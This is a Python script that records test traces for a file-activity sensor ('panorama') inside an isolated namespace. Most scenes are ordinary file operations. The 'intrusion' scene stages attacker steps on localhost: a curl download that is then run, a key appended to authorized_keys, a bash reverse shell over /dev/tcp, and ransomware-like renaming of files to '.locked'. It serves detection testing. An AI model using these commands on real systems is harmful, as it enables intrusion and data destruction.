#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Records the traces in this folder anew, each from a real session under the real sensor: `make traces`, or as root

    traces/record.py [NAME ...]

Everything happens in a mount and UTS namespace of its own: the host is called demo, /home, /tmp, /srv and the user
database are made for the purpose and gone with it. Nothing on the machine is changed but the files in this folder.
A trace that still says where it was recorded is not stored.
"""

from __future__ import annotations

import gzip
import json
import os
import platform
import re
import socket
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
CHECKOUT = Path("/mnt")  # where the namespace has it, so that its place is in no trace

PORT = 2222
USERS = {"alice": 2001, "bob": 2002, "carol": 2003}
PASSWD = ["root:*:0:0:root:/root:/bin/sh", "nobody:*:65534:65534:nobody:/nonexistent:/usr/sbin/nologin"] + [
    f"{name}:*:{uid}:{uid}:{name}:/home/{name}:/bin/sh" for name, uid in USERS.items()
]
GROUP = ["root:*:0:", "nogroup:*:65534:", "tty:*:5:"] + [f"{name}:*:{uid}:" for name, uid in USERS.items()]
BOOT_ID = "00000000-0000-4000-8000-000000000000"
KERNEL = "6.18"


@dataclass(frozen=True)
class Scene:
    """What is there before, what is recorded, as whom and with what options of `panorama record`.

    Both scripts are bash in /home/alice; `before` runs as root, and what it makes there is alice's.
    """

    what: str
    script: str
    before: str = ""
    user: str = "alice"
    options: tuple[str, ...] = ()
    packed: bool = False


AS_ALICE = "setpriv --reuid alice --regid alice --clear-groups"
KEYS = f"""
mkdir /srv/ssh .ssh; chmod 700 .ssh
ssh-keygen -q -t ed25519 -N '' -C demo -f /srv/ssh/host; ssh-keygen -q -t ed25519 -N '' -C demo -f .ssh/id_ed25519
cp .ssh/id_ed25519.pub /srv/ssh/allowed
printf '[127.0.0.1]:{PORT} %s\\n' "$(cut -d' ' -f1,2 /srv/ssh/host.pub)" > .ssh/known_hosts
cat > /srv/ssh/config <<-.
Port {PORT}
ListenAddress 127.0.0.1
HostKey /srv/ssh/host
AuthorizedKeysFile /srv/ssh/allowed
StrictModes no
UsePAM no
PidFile none
PrintLastLog no
PrintMotd no
Subsystem sftp internal-sftp
.
"""
SSHD = "/usr/sbin/sshd -D -e -f /srv/ssh/config 2>/dev/null & sleep 1"

# Linux x86-64 syscall numbers
PYTHON = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    result = libc.syscall(number, *(a if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), number)
def made(name):
    return os.open(name, os.O_WRONLY | os.O_CREAT)
a = os.open("a", os.O_RDONLY)
call(326, a, 0, made("copied"), 0, 9, 0)             # copy_file_range
call(40, made("sent"), a, 0, 9)                      # sendfile
r, w = os.pipe()
b = os.open("b", os.O_RDONLY)
call(275, b, 0, w, 0, 9, 0)                          # splice, twice
call(275, r, 0, made("spliced"), 0, 9, 0)
call(316, -100, b"copied", -100, b"renamed", 1)      # renameat2, RENAME_NOREPLACE
call(265, -100, b"sent", -100, b"linked", 0)         # linkat
call(76, b"sent", 0)                                 # truncate
call(436, b, b, 0)                                   # close_range
call(263, -100, b"d", 0x200)                         # unlinkat, AT_REMOVEDIR
call(90, b"renamed", 0o600)                          # chmod
"""

BUILD = r"""
mkdir project; cd project
for i in $(seq -w 56); do
    printf '#include "unit.h"\n#include <stddef.h>\nint unit_%s(int n) { return n * 1%s; }\n' $i $i > unit_$i.c
done
{ echo '#ifndef UNIT_H'; echo '#define UNIT_H'; for i in $(seq -w 56); do echo "int unit_$i(int n);"; done; echo '#endif'; } > unit.h
{ echo '#include <stdio.h>'; echo '#include "unit.h"'; echo 'int main(void) { return printf("%d\n", unit_01(1)) < 0; }'; } > main.c
printf 'OBJECTS := $(patsubst %%.c,%%.o,$(wildcard *.c))\nprogram: $(OBJECTS)\n\tgcc -o $@ $^\n%%.o: %%.c unit.h\n\tgcc -O1 -c -o $@ $<\n' > Makefile
"""

SCENES = {
    "scp": Scene(
        "alice copies a file to bob's account with scp; sshd, its end of it, is in the trace too",
        f"{SSHD}\n{AS_ALICE} scp -q -P {PORT} f2.txt bob@127.0.0.1:f2.txt\nkill %1; wait",
        KEYS + "echo hello > f2.txt",
        "root",
    ),
    "ssh": Scene(
        "alice runs a command with a redirection in bob's account; both ends",
        f"{SSHD}\n{AS_ALICE} ssh -p {PORT} bob@127.0.0.1 'sort list > sorted'\nkill %1; wait",
        KEYS + "printf 'b\\na\\n' > /home/bob/list; chown bob: /home/bob/list",
        "root",
    ),
    "transfers": Scene(
        "alice copies several files to bob's account and back, with scp, sftp and rsync; both ends",
        f"{SSHD}\nprintf 'put 1\\nget 1 got\\n' > batch\n"
        f"{AS_ALICE} scp -q -r -P {PORT} d bob@127.0.0.1:; {AS_ALICE} scp -q -P {PORT} bob@127.0.0.1:d/1 1\n"
        f"{AS_ALICE} sftp -q -P {PORT} -b batch bob@127.0.0.1 >/dev/null\n"
        f"{AS_ALICE} rsync -a -e 'ssh -p {PORT}' d/ bob@127.0.0.1:e; {AS_ALICE} rsync -a -e 'ssh -p {PORT}' bob@127.0.0.1:e f\n"
        "kill %1; wait",
        KEYS + "mkdir d; for n in 1 2 3 4; do echo $n > d/$n; done",
        "root",
    ),
    "intrusion": Scene(
        "a program downloaded and run by a shell, a key let in, a shell for somebody elsewhere, files rewritten and"
        " renamed by one process, and a program that removes itself",
        """
        python3 -I -m http.server -b 127.0.0.1 -d www 8080 >/dev/null 2>&1 & sleep 1
        curl -s -q -O http://127.0.0.1:8080/tool; chmod +x tool; ./tool; kill %1; wait
        mkdir -p .ssh; echo 'ssh-ed25519 AAAA' >> .ssh/authorized_keys
        python3 -ISc 'import socket; s = socket.create_server(("127.0.0.1", 4444)); c = s.accept()[0]; c.send(b"exit\\n"); c.recv(1)' & sleep 1
        bash -c 'exec bash --norc -i >& /dev/tcp/127.0.0.1/4444 0>&1'; wait
        python3 -IS change.py; cp /bin/rm mine; ./mine mine""",
        "mkdir www d; printf '#!/bin/sh\\ntrue\\n' > www/tool; for n in $(seq 60); do echo $n > d/$n; done; cat > change.py <<'.'\n"
        'import glob, os\nfor name in sorted(glob.glob("d/*")):\n    with open(name, "r+b") as file:\n        data = file.read()\n'
        '        file.seek(0)\n        file.write(data[::-1])\n    os.rename(name, name + ".locked")\n.',
    ),
    "vim": Scene(
        "an interactive vim: an existing file is opened, a line typed, `:w`, `:q`",
        "{ sleep 1; printf 'Omore\\e'; sleep 1; printf ':w\\r'; sleep 1; printf ':q\\r'; sleep 1; } |"
        " script -qec 'vim notes.txt' /dev/null >/dev/null",
        "echo first > notes.txt",
    ),
    "build": Scene(
        "`make -j2` of a C project of 57 files, gcc and its cc1, as, collect2 and ld",
        "cd project; make -s -j2",
        BUILD,
        packed=True,
    ),
    "gzip-and-gunzip": Scene(
        "two files compressed and back", "gzip g g2; gunzip g.gz; gzip -d g2.gz", "echo gg > g; : > g2"
    ),
    "zip-and-unzip": Scene(
        "an archive made, added to and extracted",
        "zip -q z.zip z; zip -q z.zip z1; rm z z1; unzip -q z.zip",
        "echo z > z; echo z1 > z1",
    ),
    "cp-and-mv": Scene(
        "copies, a copy over a file, renames within and between folders",
        "cp c c.bk; cp c c.bk; cp c m extra/; mv c x; mv x m extra/; mv -n extra/c .",
        "echo c > c; echo m > m; mkdir extra",
    ),
    "tar": Scene(
        "a folder packed, removed and unpacked, the second time through gzip",
        "tar cf t.tar d; rm -r d; tar xf t.tar; tar czf t.tgz d; rm -r d; tar xzf t.tgz",
        "mkdir -p d/e; echo 1 > d/1; echo 2 > d/e/2; chmod 640 d/1",
    ),
    "rsync": Scene(
        "a tree copied, and again after one file changed",
        "rsync -a a/ b/; echo longer > a/1; rsync -a --delete a/ b/",
        "mkdir -p a/d; echo 1 > a/1; echo 2 > a/d/2; chmod 640 a/1",
    ),
    "sed": Scene(
        "a file read, edited in place, and with a backup",
        "sed -n 1p s >/dev/null; sed -i s/1/2/ s; sed -i.bak s/2/3/ s",
        "echo 1 > s",
    ),
    "python-other-syscalls": Scene(
        "copy_file_range, sendfile, splice, renameat2, linkat, truncate, close_range, unlinkat, chmod by number",
        "python3 -IS calls.py",
        f"echo aaaaaaaa > a; echo bbbbbbbb > b; mkdir d; cat > calls.py <<'.'\n{PYTHON}.",
    ),
    "curl": Scene(
        "a file downloaded from python3's http.server; both ends",
        "python3 -I -m http.server -b 127.0.0.1 -d www 8080 >/dev/null 2>&1 & sleep 1\n"
        "curl -s -q -o got http://127.0.0.1:8080/page\nkill %1; wait",
        "mkdir www; echo page > www/page",
    ),
    "several-users": Scene(
        "root, alice, bob and a uid without a name write to one folder",
        "cd /srv/shared; echo r > root\n"
        + "\n".join(
            f"setpriv --reuid {who} --regid {who} --clear-groups sh -c 'cat root > {who}; rm -f {who}.old'"
            for who in ("alice", "bob", "4711")
        )
        + "\nchown carol: alice; chmod 4755 root",
        "mkdir -m 1777 /srv/shared; cd /srv/shared; touch alice.old bob.old 4711.old\n"
        "for n in alice:2001 bob:2002 4711:4711; do chown ${n#*:} ${n%:*}.old; done",
        "root",
    ),
    "hostile-names": Scene(
        "files whose names hold a line end, an escape sequence, quotes, a backslash, a forged line, bytes that are not"
        " UTF-8, a text direction mark, an arrow; and a program called by such a name",
        r"""
        for name in $'new\nline' $'\e[2J\e[31mred' 'a "quoted" name' "it's" 'back\slash' $'not\xff\xfeUTF-8' \
            $'right\u202etxt.exe' 'a -> b' ' ' '?' $'2026-04-02 16:52:27.276747 1 2 root rm remove x\r' '-rf' 'f:1' ; do
            touch "./$name"; cat "./$name"; mv "./$name" "./$name.moved"; rm "./$name.moved"
        done
        cp /bin/cat $'./c\na t'; $'./c\na t' plain""",
        "echo plain > plain",
    ),
    "long-open": Scene(
        "a file that stays open longer than the limit (`--long-open 1`): read, kept, written to, kept, closed; and one"
        " that is kept and not touched again",
        "python3 -IS keep.py",
        "echo kept > kept; echo idle > idle; cat > keep.py <<'.'\n"
        'import os, time\na = os.open("kept", os.O_RDWR)\nb = os.open("idle", os.O_RDONLY)\nos.read(a, 9)\nos.read(b, 9)\n'
        'time.sleep(2.5)\nos.write(a, b"more")\ntime.sleep(1)\nos.close(a)\nos.close(b)\n.',
        options=("--long-open", "1"),
    ),
    "split-and-join": Scene(
        "a file cut into pieces, put together again, packed and removed, by programs under their names and under another",
        "split -l 40 s; cat xa? > back; cp back copy; ./tool -q copy; rm xa? s; rm -r d",
        "seq 100 > s; mkdir -p d/e; touch d/1 d/e/2; cp /usr/bin/xz tool",
    ),
    "git": Scene(
        "a change recorded in a branch, looked at, and taken back",
        "cd r; echo 2 > f; git commit -qam two; git status; git checkout -q HEAD~1",
        "git init -q r; cd r; git config user.name alice; git config user.email alice@demo; echo 1 > f; git add f; git commit -qm one",
    ),
    "long-copy": Scene(
        "a copy that takes longer than the limit (`--long-open 1`) and is told of in between",
        "./tool -IS copy.py",
        "head -c 1000000 /dev/zero > a; cp /usr/bin/python3 tool; cat > copy.py <<'.'\n"
        'import time\na = open("a", "rb", 0)\nb = open("b", "wb", 0)\nwhile data := a.read(100000):\n    b.write(data)\n'
        "    time.sleep(0.3)\n.",
        options=("--long-open", "1"),
    ),
    "fork-and-redirect": Scene(
        "pipelines, subshells, groups, redirections of every kind, a background job, a here document",
        "cat a > b; cat a >> b; cat < a > c; cat a b | sort | uniq > d; (cat a; (cat b)) > e; { cat a; cat b; } > f\n"
        "exec 3< a 4> g; read -r x <&3; echo $x >&4; cat <&3 >&4; exec 3<&- 4>&-\n"
        "cat a > h & cat b > i; wait; cat <<< text > j; x=$(cat a); cat nowhere 2> k; : > l; (exec cat a > m)",
        "printf '1\\n2\\n' > a",
    ),
}


def main(arguments: list[str]) -> int:
    """Moves into the namespace, records what is asked for and derives the rest."""
    if arguments[:1] == ["--inside"]:
        return inside(arguments[1:])
    unknown = [name for name in arguments if name not in SCENES]
    if unknown or os.getuid() != 0:
        problem = f"there is no scene {', '.join(unknown)}" if unknown else "needs root"
        print(f"record.py: {problem}; scenes: {' '.join(SCENES)}", file=sys.stderr)
        return 2
    words = ("unshare", "--mount", "--uts", "--", "/usr/bin/python3", str(Path(__file__).resolve()), "--inside")
    return subprocess.run([*words, *(arguments or SCENES)], env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin"}).returncode


def inside(names: list[str]) -> int:
    secrets = [socket.gethostname(), platform.release(), Path("/proc/sys/kernel/random/boot_id").read_text().strip()]
    secrets.append(str(HERE.parent))
    bash(f"mount --bind {HERE.parent} {CHECKOUT}")
    for folder in ("/home", "/srv", "/tmp", "/run"):
        bash(f"mount -t tmpfs -o mode=1777 demo {folder}")
    socket.sethostname("demo")
    extra = [line for line in Path("/etc/passwd").read_text().splitlines() if line.startswith("sshd:")]
    for name, lines in (("passwd", PASSWD + extra), ("group", GROUP)):
        Path(f"/run/{name}").write_text("\n".join(lines) + "\n")
        bash(f"mount --bind /run/{name} /etc/{name}")
    os.mkdir("/run/sshd")
    problems = [problem for name in names for problem in record(name, SCENES[name], secrets)]
    for problem in problems:
        print(f"record.py: {problem}", file=sys.stderr)
    return 1 if problems else 0


def record(name: str, scene: Scene, secrets: list[str]) -> list[str]:
    """Records one scene and stores it with its lines; returns what is wrong with it."""
    bash("rm -rf /home/* /srv/* /tmp/*; for u in alice bob carol; do install -d -o $u -g $u /home/$u; done")
    bash(f"cd /home/alice; {scene.before}\nchown -R alice: /home/alice")
    home = "/root" if scene.user == "root" else "/home/alice"
    environment = {"PATH": "/usr/bin:/bin", "HOME": home, "LC_ALL": "C.UTF-8", "TERM": "xterm", "LOGNAME": scene.user}
    words = ["/usr/bin/python3", "-m", "panorama", "record", "-b", "behaviors", "-o", "/run/trace.jsonl"]
    words += ["-u", scene.user, *scene.options]
    script = f"cd /home/alice\n{scene.script}\ntrue"
    done = subprocess.run(
        [*words, "--", "/bin/bash", "--norc", "-c", script],
        cwd=CHECKOUT, env=environment, stdin=subprocess.DEVNULL, capture_output=True, text=True,
    )  # fmt: skip
    header, rest = Path("/run/trace.jsonl").read_text("ascii").split("\n", 1)
    text = json.dumps(json.loads(header) | {"kernel": KERNEL, "boot_id": BOOT_ID}, separators=(",", ":")) + "\n" + rest
    problems = [f"{name}: {done.stderr.strip()}"] if done.returncode else []
    problems += [f"{name}: it says {secret}" for secret in secrets if re.search(rf"\b{re.escape(secret)}\b", text)]
    if problems:
        return problems
    path = CHECKOUT / "traces" / (f"{name}.jsonl.gz" if scene.packed else f"{name}.jsonl")
    path.write_bytes(gzip.compress(text.encode(), 9, mtime=0) if scene.packed else text.encode())
    lines = subprocess.run(
        ["/usr/bin/python3", "-m", "panorama", "replay", "-b", "behaviors", str(path)],
        cwd=CHECKOUT, env={"TZ": "UTC"}, check=True, capture_output=True,
    ).stdout  # fmt: skip
    expected = CHECKOUT / "traces" / f"{name}.expected"
    expected.write_bytes(lines)
    for file in (path, expected):
        os.chown(file, os.stat(CHECKOUT).st_uid, os.stat(CHECKOUT).st_gid)
    live = next((line for line in done.stderr.splitlines() if " lines; " in line), "")
    print(f"{path.name}: {path.stat().st_size} bytes, {len(lines.splitlines())} lines", flush=True)
    if f" {len(lines.splitlines())} lines;" not in live:
        return [f"{name}: the replay gives {len(lines.splitlines())} lines, but live: {live}"]
    return []


def bash(script: str) -> None:
    subprocess.run(["/bin/bash", "--norc", "-e", "-c", script], check=True, stdin=subprocess.DEVNULL)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
